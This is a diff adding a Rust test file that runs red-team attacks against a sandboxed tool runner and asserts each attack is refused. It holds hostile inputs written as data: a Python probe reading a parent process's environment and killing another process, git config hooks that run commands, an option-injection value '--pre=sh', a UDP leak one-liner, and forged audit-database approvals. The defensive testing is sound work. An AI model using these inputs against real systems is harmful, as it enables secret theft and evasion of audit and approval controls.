@@ -1,0 +1,414 @@
+//! The red team's attacks, run against the built binary: each class of issue #8's security list
+//! with the attack itself, on a project whose policy lets the tools run (so only the
+//! confinement stands in the way).
+
+use std::path::Path;
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use serde_json::{Value, json};
+
+use crate::{jig, jig_env, stderr, stdout_json};
+
+/// A project whose policy allows the file tools and `shell_exec` of a few programs outright.
+fn permissive_project() -> tempfile::TempDir {
+    let dir = tempfile::tempdir().expect("tmp");
+    let root = dir.path();
+    std::fs::create_dir_all(root.join("tools/scripts")).expect("mkdir");
+    std::fs::write(
+        root.join("jig.yaml"),
+        r#"name: target
+policy:
+  shell_allow: ["^ls(\\s|$)", "^cat(\\s|$)", "^git(\\s|$)", "^tar(\\s|$)", "^rm(\\s|$)", "^python3(\\s|$)", "^rg(\\s|$)", "^touch(\\s|$)"]
+  rules:
+    - { tools: [shell_exec, file_write, fs_delete, fs_move, fs_copy, file_patch, probe.peek, probe.search], action: allow }
+"#,
+    )
+    .expect("write");
+    std::fs::write(
+        root.join("tools/peek.tool.yaml"),
+        "id: probe.peek\nversion: 1.0.0\ndescription: Reads its parent's environment and signals a process.\n\
+         sideEffects: [read]\nrisk: low\ndeterministic: false\ntimeoutMs: 10000\n\
+         limits: {maxInputBytes: 4096, maxOutputBytes: 65536}\n\
+         inputSchema: {type: object, properties: {victim: {type: integer}}, required: [victim]}\n\
+         outputSchema: {type: object}\n\
+         execution: {kind: python, script: scripts/peek.py}\n",
+    )
+    .expect("write");
+    std::fs::write(
+        root.join("tools/scripts/peek.py"),
+        r#"import json, os, signal, sys
+args = json.load(sys.stdin)
+out = {"ppid": os.getppid()}
+try:
+    with open(f"/proc/{os.getppid()}/environ", "rb") as f:
+        out["environ"] = f.read().decode("latin-1")
+except OSError as e:
+    out["environ_error"] = str(e)
+try:
+    os.kill(args["victim"], signal.SIGKILL)
+    out["killed"] = True
+except OSError as e:
+    out["kill_error"] = str(e)
+out["visible_pids"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
+json.dump(out, sys.stdout)
+"#,
+    )
+    .expect("write");
+    std::fs::write(
+        root.join("tools/search.tool.yaml"),
+        "id: probe.search\nversion: 1.0.0\ndescription: Searches the workspace with rg.\n\
+         sideEffects: [read]\nrisk: low\ndeterministic: false\ntimeoutMs: 10000\n\
+         limits: {maxInputBytes: 4096, maxOutputBytes: 65536}\n\
+         inputSchema: {type: object, properties: {pattern: {type: string}}, required: [pattern]}\n\
+         outputSchema: {type: object}\n\
+         templating: {engine: jinja2}\n\
+         execution: {kind: cli, cmd: [rg, '{{ pattern }}', '.']}\n",
+    )
+    .expect("write");
+    std::fs::write(root.join("notes.txt"), "hello\n").expect("write");
+    dir
+}
+
+fn call(root: &Path, tool: &str, args: &Value) -> Value {
+    let output = jig(root, &["call", tool, "--args", &args.to_string()]);
+    assert!(matches!(output.status.code(), Some(0 | 1)), "{}", stderr(&output));
+    stdout_json(&output)
+}
+
+fn shell(root: &Path, cmd: &str) -> Value {
+    call(root, "shell_exec", &json!({ "cmd": cmd }))
+}
+
+fn refused_by(response: &Value, rule: &str) {
+    assert_eq!(response["ok"], false, "{response:#}");
+    assert_eq!(response["errors"][0]["details"]["rule"], rule, "{response:#}");
+}
+
+/// Class 1: `shell_exec` is confined in the filesystem too: reads and writes outside the
+/// workspace fail whatever options the program takes.
+#[test]
+fn shell_exec_cannot_read_or_write_outside_the_workspace() {
+    let dir = permissive_project();
+    let root = dir.path();
+    let outside = tempfile::tempdir().expect("tmp");
+    std::fs::write(outside.path().join("secret.txt"), "outside secret").expect("write");
+    let secret = outside.path().join("secret.txt").display().to_string();
+    let read = shell(root, &format!("cat {secret}"));
+    assert_ne!(read["data"]["code"], 0, "{read:#}");
+    assert!(!read.to_string().contains("outside secret"));
+    let listing = shell(root, "ls /root /home");
+    assert!(!listing["data"]["stdout"].as_str().unwrap_or_default().contains(".cargo"));
+    // Writing outside: tar's own output option, and git's.
+    let planted = outside.path().join("planted.tar").display().to_string();
+    let tar = shell(root, &format!("tar -cf {planted} notes.txt"));
+    assert_ne!(tar["data"]["code"], 0, "{tar:#}");
+    assert!(!outside.path().join("planted.tar").exists());
+    // The workspace itself is writable.
+    assert_eq!(shell(root, "touch made-here.txt")["data"]["code"], 0);
+    assert!(root.join("made-here.txt").exists());
+}
+
+/// Class 2: code-loading environment variables are refused (an allow-list), and a
+/// repository whose `.git/config` runs programs is refused before git starts.
+#[test]
+fn code_loading_configuration_does_not_run() {
+    let dir = permissive_project();
+    let root = dir.path();
+    for name in ["GIT_ALLOW_PROTOCOL", "HOME", "XDG_CONFIG_HOME", "RIPGREP_CONFIG_PATH"] {
+        let response =
+            call(root, "shell_exec", &json!({ "cmd": "git status", "env": { name: "/tmp/evil" } }));
+        assert_eq!(response["ok"], false, "{name}: {response:#}");
+    }
+    assert!(
+        Command::new("git").args(["init", "-q"]).current_dir(root).status().expect("git").success()
+    );
+    let config = root.join(".git/config");
+    let mut text = std::fs::read_to_string(&config).expect("config");
+    text.push_str("[alias]\n\tst = !touch pwned\n[diff]\n\texternal = touch pwned2\n");
+    std::fs::write(&config, text).expect("write");
+    let response = shell(root, "git st");
+    refused_by(&response, "sec.git.config");
+    assert!(!root.join("pwned").exists() && !root.join("pwned2").exists());
+}
+
+/// Class 3: Jig's own state and the manifests are out of every tool's reach: the file tools,
+/// a symlink detour, and a command inside the sandbox.
+#[test]
+fn tools_cannot_touch_the_store_or_the_manifests() {
+    let dir = permissive_project();
+    let root = dir.path();
+    assert_eq!(shell(root, "ls")["ok"], true, "the store exists now");
+    let db = root.join(".jig/audit.db");
+    let before = std::fs::metadata(&db).expect("store").len();
+    std::os::unix::fs::symlink(".jig", root.join("j")).expect("symlink");
+    for (tool, args) in [
+        ("fs_delete", json!({ "path": ".jig/audit.db" })),
+        ("fs_delete", json!({ "path": "j/audit.db" })),
+        ("fs_delete", json!({ "path": "./tools/../.jig", "recursive": true })),
+        ("fs_move", json!({ "src": ".jig", "dst": "old" })),
+        ("file_write", json!({ "path": ".jig/audit.db", "content": "" })),
+        ("file_write", json!({ "path": "j/audit.db", "content": "" })),
+        ("file_write", json!({ "path": "jig.yaml", "content": "name: target\n" })),
+        ("fs_move", json!({ "src": "notes.txt", "dst": "jig.yaml", "overwrite": true })),
+        ("file_read", json!({ "path": ".jig/audit.db" })),
+        ("fs_copy", json!({ "src": "j", "dst": "copy" })),
+    ] {
+        let response = call(root, tool, &args);
+        refused_by(&response, "sec.paths.protected");
+    }
+    // Inside the sandbox the store is an empty, read-only directory; the manifest is read-only.
+    let rm = shell(root, "rm -rf .jig/audit.db jig.yaml");
+    assert_ne!(rm["data"]["code"], 0, "{rm:#}");
+    assert!(std::fs::metadata(&db).expect("store").len() >= before);
+    assert!(root.join("jig.yaml").exists());
+    let verify = jig(root, &["audit", "verify"]);
+    assert_eq!(verify.status.code(), Some(0), "{}", String::from_utf8_lossy(&verify.stdout));
+}
+
+/// Class 5: without a network grant nothing leaves, UDP included: a datagram to a listener on
+/// the host's loopback never arrives, a public address is unreachable; `allow_network` needs
+/// the policy's explicit grant.
+#[test]
+fn no_network_means_no_udp_either() {
+    let dir = permissive_project();
+    let root = dir.path();
+    let listener = std::net::UdpSocket::bind("127.0.0.1:0").expect("bind");
+    listener.set_read_timeout(Some(Duration::from_millis(500))).expect("timeout");
+    let port = listener.local_addr().expect("addr").port();
+    let send = |host: &str| {
+        shell(
+            root,
+            &format!(
+                "python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', ('{host}', {port}))\""
+            ),
+        )
+    };
+    let _ = send("127.0.0.1");
+    let mut buffer = [0u8; 16];
+    assert!(listener.recv_from(&mut buffer).is_err(), "a datagram reached the host");
+    let public = send("192.0.2.1");
+    assert_ne!(public["data"]["code"], 0, "{public:#}");
+    assert!(
+        public["data"]["stderr"].as_str().expect("stderr").contains("unreachable"),
+        "{public:#}"
+    );
+    let granted = call(root, "shell_exec", &json!({ "cmd": "ls", "allow_network": true }));
+    refused_by(&granted, "sandbox.network");
+}
+
+/// Class 6: a FIFO in the workspace is refused at once by the file tools, never hangs them.
+#[test]
+fn a_fifo_does_not_hang_the_file_tools() {
+    let dir = permissive_project();
+    let root = dir.path();
+    assert!(Command::new("mkfifo").arg(root.join("pipe")).status().expect("mkfifo").success());
+    let started = Instant::now();
+    for (tool, args) in [
+        ("file_read", json!({ "path": "pipe" })),
+        ("fs_copy", json!({ "src": "pipe", "dst": "copy" })),
+        (
+            "file_patch",
+            json!({ "path": "pipe", "unified_diff": "--- a/pipe\n+++ b/pipe\n@@ -1 +1 @@\n-a\n+b\n" }),
+        ),
+    ] {
+        let response = call(root, tool, &args);
+        assert_eq!(response["ok"], false, "{tool}: {response:#}");
+        assert!(response.to_string().contains("not a regular file"), "{tool}: {response:#}");
+    }
+    assert!(started.elapsed() < Duration::from_secs(20), "took {:?}", started.elapsed());
+}
+
+/// Class 8: a templated value starting with `-` never becomes an option of the program.
+#[test]
+fn a_templated_value_cannot_become_an_option() {
+    let dir = permissive_project();
+    let root = dir.path();
+    let response = call(root, "probe.search", &json!({ "pattern": "--pre=sh" }));
+    assert_eq!(response["ok"], false, "{response:#}");
+    assert_eq!(response["errors"][0]["details"]["rule"], "sec.argv.positional", "{response:#}");
+    let fine = call(root, "probe.search", &json!({ "pattern": "hello" }));
+    assert_eq!(fine["ok"], true, "{fine:#}");
+}
+
+/// Class 9: a confined tool sees only its own processes: not Jig's environment (with its
+/// secrets), and it cannot signal a process outside.
+#[test]
+fn a_tool_cannot_read_jigs_environment_or_kill_other_processes() {
+    let dir = permissive_project();
+    let root = dir.path();
+    let mut victim =
+        Command::new("sleep").arg("29.7").stdout(Stdio::null()).spawn().expect("sleep");
+    let output = jig_env(
+        root,
+        &["call", "probe.peek", "--args", &json!({ "victim": victim.id() }).to_string()],
+        &[("JIG_TEST_SECRET", "hunter2-do-not-leak")],
+    );
+    let response = stdout_json(&output);
+    assert_eq!(response["ok"], true, "{response:#}");
+    let data = &response["data"];
+    assert!(!response.to_string().contains("hunter2-do-not-leak"), "{data:#}");
+    assert!(data.get("killed").is_none(), "{data:#}");
+    assert!(victim.try_wait().expect("wait").is_none(), "the victim was killed");
+    let visible = data["visible_pids"].as_array().expect("pids").len();
+    assert!(visible <= 4, "the tool sees other processes: {data:#}");
+    let _ = victim.kill();
+    let _ = victim.wait();
+}
+
+/// Defect 4: credentials in a URL are refused.
+#[test]
+fn urls_with_credentials_are_refused() {
+    let dir = permissive_project();
+    std::fs::write(
+        dir.path().join("jig.yaml"),
+        "name: target\npolicy:\n  network: { allowed_domains: [example.com] }\n",
+    )
+    .expect("write");
+    let response = call(dir.path(), "curl", &json!({ "url": "https://user:pw@example.com/" }));
+    assert_eq!(response["ok"], false, "{response:#}");
+    assert!(response.to_string().contains("credentials"), "{response:#}");
+}
+
+/// Class 4: the reviewer sees exactly what will run: a secret-looking span is not masked in a
+/// command, and the tokenised argv is shown; the audit records the same.
+#[test]
+fn the_reviewer_sees_the_command_that_will_run() {
+    let dir = permissive_project();
+    let root = dir.path();
+    std::fs::write(
+        root.join("jig.yaml"),
+        "name: target\npolicy:\n  shell_allow: [\"^git(\\\\s|$)\"]\n  rules:\n    - { tools: [shell_exec], action: require-approval }\n",
+    )
+    .expect("write");
+    let cmd = "git log --grep=password=hunter2 --format=%H";
+    let asked = call(root, "shell_exec", &json!({ "cmd": cmd }));
+    assert_eq!(asked["errors"][0]["code"], "E_POLICY", "{asked:#}");
+    let listed = jig(root, &["approvals", "list", "--json"]);
+    let text = String::from_utf8_lossy(&listed.stdout);
+    assert!(text.contains("--grep=password=hunter2 --format=%H"), "{text}");
+    assert!(text.contains("\"argv\""), "the tokenised argv is shown: {text}");
+    let audit = jig(root, &["audit", "export"]);
+    let audit = String::from_utf8_lossy(&audit.stdout);
+    assert!(audit.contains("--grep=password=hunter2 --format=%H"), "{audit}");
+}
+
+/// A project where writes need a reviewer other than the one who asked.
+fn reviewed_project() -> tempfile::TempDir {
+    let dir = tempfile::tempdir().expect("tmp");
+    std::fs::write(
+        dir.path().join("jig.yaml"),
+        "name: reviewed\npolicy:\n  rules:\n    - { tools: [file_write], action: require-approval }\n  approvals: { self_approval: false, allow_as: true }\n",
+    )
+    .expect("write");
+    dir
+}
+
+const WRITE: &str = r#"{"path": "out.txt", "content": "approved content\n"}"#;
+
+fn ask(root: &Path, who: &str) -> String {
+    let asked = stdout_json(&jig(root, &["--as", who, "call", "file_write", "--args", WRITE]));
+    asked["errors"][0]["details"]["approval_id"].as_str().expect("approval id").to_owned()
+}
+
+fn raw_sql(root: &Path, statements: &[&str]) {
+    let db = root.join(".jig/audit.db").display().to_string();
+    let runtime = tokio::runtime::Runtime::new().expect("runtime");
+    runtime.block_on(async {
+        let store = jig_engine::audit::Store::open(&db).await.expect("open");
+        for statement in statements {
+            store.execute_raw(statement).await.expect("raw sql");
+        }
+        store.close().await;
+    });
+}
+
+/// Class 10: principals compare canonically, and a token is bound to who asked.
+#[test]
+fn identity_is_compared_canonically_and_tokens_are_bound_to_who_asked() {
+    let dir = reviewed_project();
+    let root = dir.path();
+    let approval = ask(root, "alice");
+    let self_approved = jig(root, &["--as", "Alice", "approvals", "approve", &approval]);
+    assert_ne!(self_approved.status.code(), Some(0), "Alice approved alice's request");
+    let approved = jig(root, &["--as", "bob", "approvals", "approve", &approval]);
+    assert_eq!(approved.status.code(), Some(0), "{}", stderr(&approved));
+    let token = String::from_utf8_lossy(&approved.stdout).trim().to_owned();
+    let stolen = stdout_json(&jig(
+        root,
+        &["--as", "mallory", "call", "file_write", "--args", WRITE, "--approve", &token],
+    ));
+    assert_eq!(stolen["ok"], false, "{stolen:#}");
+    assert!(!root.join("out.txt").exists());
+    let ran = stdout_json(&jig(
+        root,
+        &["--as", "alice", "call", "file_write", "--args", WRITE, "--approve", &token],
+    ));
+    assert_eq!(ran["ok"], true, "{ran:#}");
+    // The same request by someone else is not answered from alice's record: it needs its own
+    // decision.
+    let repeat =
+        stdout_json(&jig(root, &["--as", "mallory", "call", "file_write", "--args", WRITE]));
+    assert_eq!(repeat["ok"], false, "{repeat:#}");
+    assert!(repeat["errors"][0]["details"]["approval_id"].is_string(), "{repeat:#}");
+}
+
+/// Class 11: a forged approvals row does not make a call approved, and `verify` finds it.
+#[test]
+fn a_forged_approval_row_is_refused_and_found_by_verify() {
+    let dir = reviewed_project();
+    let root = dir.path();
+    let approval = ask(root, "alice");
+    let forged_hash = jig_model::Sha256Hash::of_bytes(b"forged-token").to_hex();
+    raw_sql(
+        root,
+        &[&format!(
+            "UPDATE approvals SET state = 'approved', token_hash = '{forged_hash}', expires_us = 9999999999999999 WHERE id = '{approval}'"
+        )],
+    );
+    let used = stdout_json(&jig(
+        root,
+        &["--as", "alice", "call", "file_write", "--args", WRITE, "--approve", "forged-token"],
+    ));
+    assert_eq!(used["ok"], false, "{used:#}");
+    assert!(used.to_string().contains("not in the audit chain"), "{used:#}");
+    assert!(!root.join("out.txt").exists());
+    let verify = jig(root, &["audit", "verify"]);
+    assert_eq!(verify.status.code(), Some(1));
+    assert!(String::from_utf8_lossy(&verify.stdout).contains(&approval), "names the approval");
+}
+
+/// Class 11: an edited recorded response is not served as a replay, and `verify` finds it.
+#[test]
+fn an_edited_recorded_response_is_not_replayed() {
+    let dir = permissive_project();
+    let root = dir.path();
+    let args = json!({ "path": "a.txt", "content": "real\n" });
+    let first = call(root, "file_write", &args);
+    assert_eq!(first["ok"], true, "{first:#}");
+    raw_sql(
+        root,
+        &["UPDATE idempotency SET response = replace(response, '\"bytes\":5', '\"bytes\":666')"],
+    );
+    let replayed = call(root, "file_write", &args);
+    assert!(!replayed.to_string().contains("666"), "{replayed:#}");
+    assert_eq!(replayed["ok"], false, "{replayed:#}");
+    let verify = jig(root, &["audit", "verify"]);
+    assert_eq!(verify.status.code(), Some(1), "{}", String::from_utf8_lossy(&verify.stdout));
+}
+
+/// Class 10: without the policy's `allow_as`, `--as` cannot name someone else: the principal is
+/// the OS user, whatever `$USER` says.
+#[test]
+fn the_principal_is_the_os_user_unless_the_policy_allows_naming_one() {
+    let dir = permissive_project();
+    let root = dir.path();
+    let named = jig(root, &["--as", "alice", "call", "file_write", "--args", WRITE]);
+    assert_eq!(named.status.code(), Some(2), "{}", stderr(&named));
+    assert!(stderr(&named).contains("allow_as"), "{}", stderr(&named));
+    let spoofed = jig_env(root, &["call", "file_write", "--args", WRITE], &[("USER", "alice")]);
+    let response = stdout_json(&spoofed);
+    assert_eq!(response["ok"], true, "{response:#}");
+    let packets = String::from_utf8_lossy(&jig(root, &["audit", "export"]).stdout).into_owned();
+    assert!(!packets.contains("\"principal\":\"alice\""), "$USER was trusted: {packets}");
+}
